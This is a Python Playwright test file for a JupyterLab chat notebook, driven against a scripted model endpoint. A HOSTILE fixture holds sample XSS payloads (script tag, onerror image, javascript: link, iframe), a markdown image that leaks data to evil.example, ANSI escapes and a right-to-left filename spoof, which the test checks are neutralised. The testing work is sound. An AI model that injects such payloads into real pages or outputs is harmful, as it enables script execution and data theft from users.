"""The chat notebook in real JupyterLab, driven like a person drives it."""

import asyncio
import time

from playwright.async_api import expect

from tests.browser.panel import Measure, Opened
from tests.support.endpoint import (
    MODEL,
    Answer,
    Gate,
    Hold,
    Pause,
    Received,
    ScriptedEndpoint,
    words,
)

NOTEBOOK = "05_chat.ipynb"

EXPLANATION = """You pay while a model is *loaded*, so three numbers decide:

1. **Memory** says which model fits.
2. **Bandwidth** says how fast it writes.
3. The **lease price** says what a million tokens cost.

```python
endpoint = await connect("local")
```
"""
HAIKU = "Quiet fans at night,\nan hour of borrowed silicon –\nwords arrive like rain."
HOSTILE = """<script>window.hacked = 1</script>
<img src="http://evil.example/a.png" onerror="window.hacked = 2">

![secret](http://evil.example/leak?q=secret) [click](javascript:window.hacked=3)
[more](http://evil.example/page) <http://evil.example/auto>

<iframe src="http://evil.example"></iframe> \x1b[31mred\x1b]0;title\x07 \u202egnp.exe\u202c
"""


def script(received: Received) -> Answer:
    prompt = received.body["messages"][-1]["content"]
    if "haiku" in prompt:
        return words(HAIKU, first_s=0.2, gap_s=0.02)
    if "hold" in prompt:
        return Answer(["This part came", " before the stop.", Hold()])
    if "slow" in prompt:
        return Answer([Pause(2.0), "late"])
    if "busy" in prompt:
        return Answer(status=503, error="server busy", headers={"retry-after": "3"})
    if "hostile" in prompt:
        return Answer([HOSTILE, "x" * 4_000, " the end"])
    return words(EXPLANATION, first_s=0.1, gap_s=0.005)


async def test_a_conversation(opened: Opened) -> None:
    gate = asyncio.Event()

    def gated(received: Received) -> Answer:
        if len(server.generations()) < 3:
            return script(received)
        return Answer([Gate(gate), *script(received).steps])

    server = ScriptedEndpoint(gated)
    async with server:
        await opened.open(
            NOTEBOOK, url=server.url, model=MODEL, first_message="Write a haiku about renting."
        )
        await opened.wait_for_figures(1)
        await opened.say("What decides what my own endpoint costs?")
        await opened.wait_for_figures(2)
        reply = opened.replies.nth(1)
        await expect(reply.locator("strong")).to_have_count(3)
        await expect(reply.locator("pre")).to_have_text('endpoint = await connect("local")\n')
        await expect(reply.locator(".akl-facts")).to_contain_text("tok/s")
        await expect(opened.line).to_have_value("")
        assert await _is_at_its_end(opened)

        await opened.button("Retry").click()
        # Held back until the browser shows that the second reply is being made again.
        await opened.wait_for_figures(1)
        gate.set()
        await opened.wait_for_figures(2)
        assert len(server.generations()) == 3
        assert server.generations()[2].body == server.generations()[1].body

        await opened.button("Edit last").click()
        await expect(opened.line).to_have_value("What decides what my own endpoint costs?")
        await expect(opened.replies).to_have_count(1)

        await opened.button("Clear").click()
        await opened.button("Keep").click()
        await expect(opened.replies).to_have_count(1)
        await opened.button("Clear").click()
        await opened.button("Clear all").click()
        await expect(opened.replies).to_have_count(0)
        await expect(opened.page.get_by_text("Ask your model something")).to_be_visible()
        await opened.picture("chat-empty")


async def test_text_is_seen_while_it_streams_and_stop_frees_the_slot(
    opened: Opened, measured: Measure
) -> None:
    async with ScriptedEndpoint(script) as server:
        await opened.open(NOTEBOOK, url=server.url, model=MODEL)
        await opened.wait_for_figures(1)
        await opened.say("please hold the line")
        await expect(opened.replies.nth(1)).to_contain_text("This part came before the stop.")
        assert server.active == 1
        clicked = time.monotonic()
        await opened.button("Stop").click()
        await server.until(lambda s: s.active == 0 and s.cancelled == 1)
        measured("Stop clicked to slot free (goal 300 ms)", 1e3 * (server.gone_at - clicked))
        await expect(opened.replies.nth(1)).to_contain_text("stopped")
        await expect(opened.replies.nth(1)).to_contain_text("This part came before the stop.")
        await opened.say("a slow one")
        await expect(opened.replies.nth(2)).to_contain_text("waiting for first token… 1.")
        await opened.wait_for_figures(2)
        await opened.say("busy?")
        await expect(opened.replies.nth(3)).to_contain_text("Error: server busy.")
        await expect(opened.replies.nth(3)).to_contain_text("try again in 3 s")
        await opened.button("Settings").click()
        await opened.picture("chat-states")


async def test_hostile_text_runs_and_loads_nothing(opened: Opened) -> None:
    async with ScriptedEndpoint(script) as server:
        await opened.open(NOTEBOOK, url=server.url, model=MODEL, first_message="be hostile")
        await opened.wait_for_figures(1)
        reply = opened.replies.first
        await expect(reply).to_contain_text("<script>window.hacked = 1</script>")
        await expect(reply).to_contain_text("the end")
        await expect(reply.locator("p")).to_have_count(3)
        assert await opened.evaluate("window.hacked") is None
        count = (
            "document.querySelectorAll('.akl-reply :is(script,img,iframe,a,object,embed)').length"
        )
        assert await opened.evaluate(count) == 0
        text = await reply.inner_text()
        assert "\x1b" not in text and "\u202e" not in text
        wide = "document.querySelector('.akl-reply').scrollWidth"
        assert await opened.evaluate(f"{wide} <= document.querySelector('.akl').clientWidth")
        await opened.picture("chat-hostile")


async def test_the_keyboard_reaches_every_control_in_the_order_of_sight(opened: Opened) -> None:
    async with ScriptedEndpoint(script) as server:
        await opened.open(NOTEBOOK, url=server.url, model=MODEL)
        await opened.wait_for_figures(1)
        await opened.line.focus()
        names = []
        for _ in range(6):
            await opened.page.keyboard.press("Tab")
            names.append(await opened.evaluate("document.activeElement.textContent.trim()"))
        assert names == ["Send", "Retry", "Edit last", "Clear", "Several lines", "Settings"]
        await opened.page.keyboard.press("Enter")
        await expect(opened.page.get_by_label("System prompt")).to_be_visible()
        for label in ("Model", "System prompt", "Temperature", "Max tokens", "Seed"):
            await expect(opened.page.locator(".akl").get_by_label(label)).to_be_visible()


async def _is_at_its_end(opened: Opened) -> bool:
    """Whether the newest text is in sight: a box laid out from below starts at 0."""
    return bool(await opened.evaluate("document.querySelector('.akl-log').scrollTop === 0"))
